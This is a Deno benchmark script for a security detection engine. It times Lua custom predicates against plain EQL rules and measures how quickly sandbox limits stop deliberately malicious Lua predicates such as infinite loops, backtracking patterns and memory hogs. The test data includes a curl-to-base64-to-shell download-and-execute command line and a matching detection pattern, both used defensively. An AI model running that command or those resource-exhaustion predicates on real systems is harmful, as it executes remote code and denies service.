/**
 * Prints the per-call cost of Lua custom predicates (`lua("module.fn", …)`):
 * the host boundary alone, real predicates from the test ruleset, and the
 * same detection through the engine as a Lua rule and as a plain EQL rule;
 * plus what loading Lua costs in time and memory.
 * Run: `deno run -A bench/lua_predicate.ts`.
 *
 * @module
 */
import { Schema } from "../engine/schema.ts";
import { Engine } from "../engine/engine.ts";
import { FieldPaths, JsonEvent } from "../engine/event.ts";
import type { Value } from "../eql/value.ts";
import { loadRulesFromSources } from "../rules/loader/mod.ts";
import { LuaModules } from "../runtimes/lua/mod.ts";
import { processMemory } from "./process_memory.ts";

const ROOT = decodeURIComponent(new URL("../", import.meta.url).pathname);
const SHELL = `${ROOT}tests/fixtures/rules/lua_predicates/lua/shell.lua`;
const CMD = "/bin/bash -c curl -fsSL http://10.0.0.7/x.sh | base64 -d | sh";
const ARGS = ["/usr/bin/tar", "-x", "-z", "-f", "backup.tgz", "-C", "/tmp"];

const median = (xs: number[]) => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)];

/** Median ns per call of `fn` over 5 rounds of `n` calls, after a warm-up. */
function nsPerCall(fn: () => void, n = 200_000): number {
  for (let i = 0; i < 20_000; i++) fn();
  const rounds: number[] = [];
  for (let r = 0; r < 5; r++) {
    const t0 = performance.now();
    for (let i = 0; i < n; i++) fn();
    rounds.push((performance.now() - t0) * 1e6 / n);
  }
  return median(rounds);
}

const rssBefore = processMemory(Deno.pid).rss;
const t0 = performance.now();
const { modules, diagnostics } = await LuaModules.load([
  { path: SHELL, text: await Deno.readTextFile(SHELL) },
  {
    path: "bench.lua",
    text: "local M = {}\n" +
      "function M.yes() return true end\n" +
      "function M.echo(s) return s end\n" +
      "function M.sum(n) local s = 0 for i = 1, n do s = s + i end return s end\n" +
      "return M\n",
  },
], { memoryBytes: 32 << 20, instructions: 1_000_000 });
const loadMs = performance.now() - t0;
const rssAfter = processMemory(Deno.pid).rss;
if (diagnostics.length) throw new Error(JSON.stringify(diagnostics));

const fn = (ref: string) => modules.bind(ref, "bench");
const cases: [string, (args: readonly Value[]) => Value, Value[]][] = [
  ["bench.yes() — no arguments, returns true", fn("bench.yes"), []],
  ["bench.echo(command_line) — 62-byte string in and out", fn("bench.echo"), [CMD]],
  ["shell.decodes_to_shell(command_line) — two string.find", fn("shell.decodes_to_shell"), [
    CMD,
  ]],
  ["shell.flag_count(args) — 7-element list, loop", fn("shell.flag_count"), [ARGS]],
  ["bench.sum(100) — 100-iteration loop (~400 instructions)", fn("bench.sum"), [100]],
];
console.log(
  `Loading Lua (WebAssembly instance + 2 module states): ${loadMs.toFixed(1)} ms, ` +
    `RSS +${((rssAfter - rssBefore) / 1024).toFixed(1)} MB`,
);
console.log("\nPer call, through the bound host function (median of 5 × 200,000 calls):");
for (const [label, call, args] of cases) {
  const ns = nsPerCall(() => call(args));
  console.log(`  ${label}: ${(ns / 1000).toFixed(2)} µs`);
}

// The same detection as a Lua rule and as a plain EQL rule, through the engine.
const schema = Schema.ecs();
const paths = new FieldPaths(schema);
const events: JsonEvent[] = [];
for (let i = 0; i < 10_000; i++) {
  const cmd = i % 10 === 0 ? CMD : `/usr/bin/ls -la /home/user${i} --color=auto`;
  events.push(
    new JsonEvent(
      {
        "@timestamp": "2024-01-01T00:00:00Z",
        event: { category: "process", type: "start" },
        process: { pid: i, name: "bash", command_line: cmd, args: cmd.split(" ") },
      },
      BigInt(i),
      i,
      paths,
    ),
  );
}
const rulesets = {
  'Lua rule: process where lua("shell.decodes_to_shell", process.command_line)':
    'process where lua("shell.decodes_to_shell", process.command_line)',
  'EQL rule: process where process.command_line : "*base64 -d*|*sh*"':
    'process where process.command_line : "*base64 -d*|*sh*"',
};
console.log("\nThrough the engine, 10,000 process events (10% match), one rule:");
for (const [label, eql] of Object.entries(rulesets)) {
  const loaded = loadRulesFromSources([{ path: "r.eql", text: eql }], {
    schema,
    luaModules: modules,
  });
  if (loaded.rules.length !== 1) throw new Error(JSON.stringify(loaded.diagnostics));
  let matches = 0;
  const engine = new Engine(loaded.rules, { schema, onMatch: () => matches++ });
  let i = 0;
  const ns = nsPerCall(() => engine.process(events[i++ % events.length]));
  console.log(
    `  ${label}: ${(ns / 1000).toFixed(2)} µs/event, ` +
      `${Math.round(1e9 / ns).toLocaleString("en-US")} events/s (${matches} matches)`,
  );
}

// How long malicious predicates run before the limits stop them (default limits).
const evil = await LuaModules.load([{
  path: "evil.lua",
  text: `local M = {}
function M.spin() while true do end end
function M.backtrack() local at = string.find(string.rep("a", 5000), ".-.-.-.-b") return at end
function M.optional() local at = string.find(("a"):rep(30), ("a?"):rep(30) .. ("a"):rep(30)) return at end
function M.hog() local c, t = string.rep("x", 100000), {} for i = 1, 1e9 do t[i] = c .. i end end
function M.sort_loop() local t = {} for i = 1, 1000 do t[i] = -i end while true do table.sort(t) end end
function M.compare_loop()
  local a, b = string.rep("x", 250000), string.rep("x", 249999) .. "x"
  while true do local same = a == b end
end
return M`,
}], { memoryBytes: 32 << 20, instructions: 100_000, onError: () => {} });
console.log(
  "\nTime until a malicious predicate is stopped (32 MB, 100,000 instructions: the defaults):",
);
for (
  const [fn, what] of [
    ["spin", "while true do end"],
    ["backtrack", 'find(("a"):rep(5000), ".-.-.-.-b") (Lua matcher)'],
    ["optional", "30 optional items (Lua matcher)"],
    ["hog", "table of 100 KB strings (allocation limit)"],
    ["sort_loop", "table.sort in a loop (charged)"],
    ["compare_loop", "== on two 250 KB strings in a loop (one instruction each)"],
  ]
) {
  const call = evil.modules.bind(`evil.${fn}`, "bench");
  const t = performance.now();
  call([]);
  console.log(`  ${what}: ${(performance.now() - t).toFixed(0)} ms`);
}
